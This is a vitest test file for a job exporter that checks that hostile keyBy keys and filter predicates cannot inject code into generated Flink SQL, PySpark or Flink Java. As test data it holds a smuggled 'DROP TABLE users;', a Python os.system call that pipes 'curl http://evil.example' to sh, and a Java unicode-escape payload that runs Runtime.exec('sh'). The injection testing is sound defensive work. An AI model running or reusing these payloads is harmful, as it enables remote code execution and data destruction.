// The two code injections of issue 10: a keyBy key with a line break ended the `-- Groups by …` /
// `# Groups by …` comment, and what followed became a statement. The export of a job with the
// hostile key must parse and have the statements of the same job with a plain key.
import { describe, expect, it } from 'vitest';
import { parseJob } from '../model/index.ts';
import { calciteIdentifierProblems, flinkSqlProblems, javacSyntaxProblems, javaMembers, pythonTopLevel, sqlStatementKinds } from './test-support/checkers.ts';
import { exportJob } from './index.ts';
import type { Job } from '../model/index.ts';

/** A keyed tumbling count over a scripted source; `key` names the field it is keyed by. */
function keyedJob(key: string, label = 'Count per key'): Job {
  const parsed = parseJob({
    format: 'streamlab.job/v1',
    name: 'Injection',
    nodes: [
      { id: 'events', kind: 'source', params: { records: [{ ts: 1000, at: 1000, [key]: 'a' }, { ts: 2000, at: 2000, [key]: 'b' }] } },
      { id: 'wm', kind: 'watermark', params: { delayMs: 0 } },
      { id: 'by', kind: 'keyBy', params: { key } },
      { id: 'count', kind: 'window', label, params: { assigner: { kind: 'tumbling', sizeMs: 1000 }, aggregate: { fn: 'count', as: 'n' }, lateOutput: 'late' } },
      { id: 'out', kind: 'sink', params: { connector: 'kafka' } },
    ],
    edges: [
      { from: 'events', to: 'wm' },
      { from: 'wm', to: 'by' },
      { from: 'by', to: 'count' },
      { from: 'count', to: 'out' },
    ],
  });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  return parsed.job;
}

const DROP = 'user\nDROP TABLE users;';
const OS_SYSTEM = "user\nimport os; os.system('curl -s http://evil.example | sh')";

describe('a keyBy key cannot inject code', () => {
  it('Flink SQL: "DROP TABLE users;" after a line break in the key stays inside a comment', () => {
    const sql = exportJob(keyedJob(DROP), 'flink-sql').code;
    expect(flinkSqlProblems(sql)).toEqual([]);
    expect(calciteIdentifierProblems(sql)).toEqual([]);
    const kinds = sqlStatementKinds(sql);
    expect(kinds).toEqual(sqlStatementKinds(exportJob(keyedJob('user'), 'flink-sql').code));
    expect(kinds.join(' ')).not.toMatch(/Drop/i);
    expect(sql).not.toMatch(/^DROP TABLE/m);
  }, 60_000);

  it('PySpark: "import os; os.system(…)" after a line break in the key stays inside a comment', () => {
    const python = exportJob(keyedJob(OS_SYSTEM), 'pyspark').code;
    const [hostile, plain] = pythonTopLevel([python, exportJob(keyedJob('user'), 'pyspark').code]);
    expect(hostile).toEqual(plain);
    expect('nodes' in hostile && hostile.nodes).not.toContain('Import');
    expect(python).not.toMatch(/^import os/m);
  }, 60_000);

  it('Flink Java: a "\\u000a" in a label or key is no line break for javac', () => {
    const payload = 'x \\u000a }static{Runtime.getRuntime().exec("sh");}// \n int pwned;';
    const java = exportJob(keyedJob(payload, payload), 'flink-java').code;
    expect(javacSyntaxProblems(java)).toEqual([]);
    expect(javaMembers(java)).toEqual(javaMembers(exportJob(keyedJob('user'), 'flink-java').code));
  }, 60_000);

  it('Flink SQL: a string literal of a filter with a line break or a bidi override takes the Unicode form', () => {
    const job = keyedJob('user');
    const filter = { id: 'only', kind: 'filter' as const, params: { predicate: "user <> 'x\n--\u202e''; DROP TABLE users; --'" } };
    const parsed = parseJob({
      ...job,
      nodes: [...job.nodes.filter((n) => n.kind !== 'sink'), filter, ...job.nodes.filter((n) => n.kind === 'sink')],
      edges: [...job.edges.filter((e) => e.to !== 'out'), { from: 'count', to: 'only' }, { from: 'only', to: 'out' }],
    });
    expect(parsed.ok, JSON.stringify(!parsed.ok && parsed.problems)).toBe(true);
    if (!parsed.ok) return;
    const sql = exportJob(parsed.job, 'flink-sql').code;
    expect(sql).toContain("WHERE `user` <> U&'x\\000a--\\202e''; DROP TABLE users; --'");
    expect(flinkSqlProblems(sql)).toEqual([]);
    expect(sqlStatementKinds(sql)).toHaveLength(sqlStatementKinds(exportJob(keyedJob('user'), 'flink-sql').code).length + 1);
  }, 60_000);

  it('the checks see an injection (a statement after a broken comment, javac\'s unicode escapes)', () => {
    const plain = exportJob(keyedJob('user'), 'flink-sql').code;
    const injected = plain.replace('-- Groups by', '-- Groups by x\nDROP TABLE users;\n--');
    expect(sqlStatementKinds(injected).length).toBe(sqlStatementKinds(plain).length + 1);
    expect(calciteIdentifierProblems('SELECT `a\nb` FROM t;')).not.toEqual([]);
    expect(calciteIdentifierProblems("SELECT 'a\nb' AS `c` FROM t; -- `d\n")).toEqual([]);
    const java = 'public class A {\n  // note \\u000a int pwned;\n  int x;\n}';
    expect(javaMembers(java)).toEqual(['field pwned', 'field x']);
    expect(javacSyntaxProblems('class A { // \\u00zz\n}')).not.toEqual([]);
    expect(javacSyntaxProblems('class A { // \\\\u00zz\n}')).toEqual([]);
  }, 60_000);
});
